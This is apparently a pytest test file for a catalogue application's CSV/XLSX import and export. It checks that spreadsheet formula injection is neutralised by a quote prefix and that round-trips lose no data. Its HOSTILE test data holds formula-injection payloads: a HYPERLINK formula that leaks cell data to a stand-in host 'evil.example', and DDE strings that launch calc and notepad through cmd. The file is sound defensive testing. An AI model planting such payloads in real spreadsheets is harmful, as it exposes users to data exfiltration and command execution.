"""CSV/XLSX formula injection (issue 13, finding 2): exports are inert, round-trips lossless.

A cell that starts with `=`, `+`, `-`, `@`, tab or CR is a live formula in a
spreadsheet programme. The export prefixes a single quote (OWASP); the import
removes exactly that quote again, so export → import gives back every value.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy.engine import Engine

from catalogue.db import make_engine, session_scope, upgrade
from catalogue.groups import load_records
from catalogue.interchange.rows import COLUMNS, REQUIRED
from catalogue.interchange.spreadsheet import (
    FORMULA_STARTS,
    export_csv,
    export_engine_csv,
    export_xlsx,
    import_file,
    neutralise,
    read_table,
    restore,
)

Rows = Callable[..., dict[str, str]]
ToCsv = Callable[..., bytes]

# Values a transfertafel really has, each starting with a character a spreadsheet reads as code.
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?d="&A2,"Klik")',
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "-2+3+cmd|' /C notepad'!'A1'",
    "cost_note": "-",
    "contact_phone": "+31 6 12345678",
    "location_name": "'=al geneutraliseerd",
    "accessibility": "''+twee aanhalingstekens",
    "tags": "+plus;-min;@apenstaart",
}


def _hostile_file(make_row: Rows, csv_bytes: ToCsv) -> bytes:
    """The hostile values as an export writes them (a bare `'=` in a file means `=`)."""
    return csv_bytes([make_row(**{key: neutralise(value) for key, value in HOSTILE.items()})])


def _fresh_engine(path: Path) -> Engine:
    url = f"sqlite:///{path}"
    upgrade(url)
    return make_engine(url)


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [cell for row in rows[1:] for cell in row]


def test_csv_export_has_no_live_formula(engine: Engine, make_row: Rows, csv_bytes: ToCsv) -> None:
    import_file(engine, _hostile_file(make_row, csv_bytes), "a.csv", actor="t")
    cells = _cells(export_engine_csv(engine))
    live = [cell for cell in cells if cell[:1] in FORMULA_STARTS]
    assert live == []
    exported = next(csv.DictReader(io.StringIO(export_engine_csv(engine), newline="")))
    assert exported["title"] == "'" + HOSTILE["title"]
    assert exported["cost_note"] == "'-"
    assert exported["location_name"] == "''=al geneutraliseerd"


def test_hostile_values_survive_export_and_import(
    engine_any: Engine, tmp_path: Path, make_row: Rows, csv_bytes: ToCsv
) -> None:
    import_file(engine_any, _hostile_file(make_row, csv_bytes), "a.csv", actor="t")
    first = export_engine_csv(engine_any)
    fresh = _fresh_engine(tmp_path / "fresh.db")
    import_file(fresh, first.encode(), "export.csv", actor="t")
    with session_scope(fresh) as session:
        (record,) = load_records(session)
    fresh.dispose()
    assert record.title == HOSTILE["title"]
    assert (record.cost_note, record.contact_phone) == ("-", "+31 6 12345678")
    assert record.location_name == "'=al geneutraliseerd"
    assert record.accessibility == "''+twee aanhalingstekens"
    assert list(record.tags) == ["+plus", "-min", "@apenstaart"]


def test_reimporting_a_hostile_export_changes_nothing(
    engine: Engine, make_row: Rows, csv_bytes: ToCsv
) -> None:
    import_file(engine, _hostile_file(make_row, csv_bytes), "a.csv", actor="t")
    first = export_engine_csv(engine)
    report = import_file(engine, first.encode(), "export.csv", actor="t")
    assert (report.unchanged, report.updated) == (1, 0)
    assert export_engine_csv(engine) == first


@pytest.mark.parametrize("value", ["'s-Hertogenbosch", "'t Hoekje", "O'Brien", "don't"])
def test_hand_typed_apostrophes_are_kept(
    engine: Engine, make_row: Rows, csv_bytes: ToCsv, value: str
) -> None:
    """Only a quote in front of a formula character is an escape; Dutch 's and 't stay."""
    import_file(engine, csv_bytes([make_row(location_name=value)]), "a.csv", actor="t")
    with session_scope(engine) as session:
        (record,) = load_records(session)
    assert record.location_name == value
    exported = next(csv.DictReader(io.StringIO(export_engine_csv(engine), newline="")))
    assert exported["location_name"] == value


def test_a_hand_typed_quote_before_a_formula_character_means_text(
    engine: Engine, make_row: Rows, csv_bytes: ToCsv
) -> None:
    """As in Excel: typing `'=A1` enters the text `=A1`."""
    import_file(engine, csv_bytes([make_row(cost_note="'=A1")]), "a.csv", actor="t")
    with session_scope(engine) as session:
        (record,) = load_records(session)
    assert record.cost_note == "=A1"


def test_xlsx_export_writes_text_never_formulas(
    engine: Engine, tmp_path: Path, make_row: Rows, csv_bytes: ToCsv
) -> None:
    import_file(engine, _hostile_file(make_row, csv_bytes), "a.csv", actor="t")
    with session_scope(engine) as session:
        records = load_records(session)
    data = export_xlsx(records)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [c.value for c in cells if str(c.value)[:1] in FORMULA_STARTS] == []
    assert [c.value for c in sheet[1]] == list(COLUMNS)

    fresh = _fresh_engine(tmp_path / "fresh.db")
    import_file(fresh, data, "export.xlsx", actor="t")
    assert export_engine_csv(fresh) == export_csv(records)
    fresh.dispose()


# --- the cell codec over arbitrary strings -----------------------------------------------------

_DANGEROUS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", "'=", " "])
_ANY = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
)
_CELL = st.one_of(_ANY, st.builds(lambda a, b: a + b, _DANGEROUS, _ANY))


@given(_CELL)
def test_restore_undoes_neutralise(value: str) -> None:
    assert restore(neutralise(value)) == value


@given(_CELL)
def test_neutralised_cells_never_start_a_formula(value: str) -> None:
    assert neutralise(value)[:1] not in FORMULA_STARTS


@given(st.lists(st.lists(_CELL, min_size=2, max_size=2), min_size=1, max_size=5))
def test_csv_table_round_trips_arbitrary_cells(rows: list[list[str]]) -> None:
    """export form → CSV text → read_table gives back every cell exactly (before parsing)."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    # The other required columns are in the header too (it is checked); their cells are fixed.
    others = [c for c in REQUIRED if c not in ("external_id", "title")]
    writer.writerow(["external_id", "title", *others])
    writer.writerows([*(neutralise(cell) for cell in row), *["x"] * len(others)] for row in rows)
    if all(not "".join(row).strip() for row in rows):
        return  # an all-blank file is refused, rightly
    table = read_table(out.getvalue().encode(), "a.csv")
    assert [[row["external_id"], row["title"]] for row in table] == rows


_TITLE = st.builds(
    lambda a, b: (a + b).strip(),
    st.sampled_from(["=", "+", "-", "@", "'", "''=", "'+", "-", "+31 6 "]),
    st.text(
        st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters="\x00"),
        max_size=60,
    ),
).filter(bool)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(title=_TITLE, phone=st.from_regex(r"\A[+\-=@]?[0-9 ()+\-]{1,20}\Z").map(str.strip))
def test_database_round_trip_of_dangerous_values(
    engine: Engine, make_row: Rows, csv_bytes: ToCsv, title: str, phone: str
) -> None:
    row = make_row(title=neutralise(title), contact_phone=neutralise(phone))
    import_file(engine, csv_bytes([row]), "a.csv", actor="t")
    exported = export_engine_csv(engine)
    assert [cell for cell in _cells(exported) if cell[:1] in FORMULA_STARTS] == []
    # The same file back into the same database: identical values, so nothing is rewritten.
    report = import_file(engine, exported.encode(), "export.csv", actor="t")
    assert report.unchanged == 1
    with session_scope(engine) as session:
        (record,) = load_records(session)
    assert (record.title, record.contact_phone) == (title, phone or None)
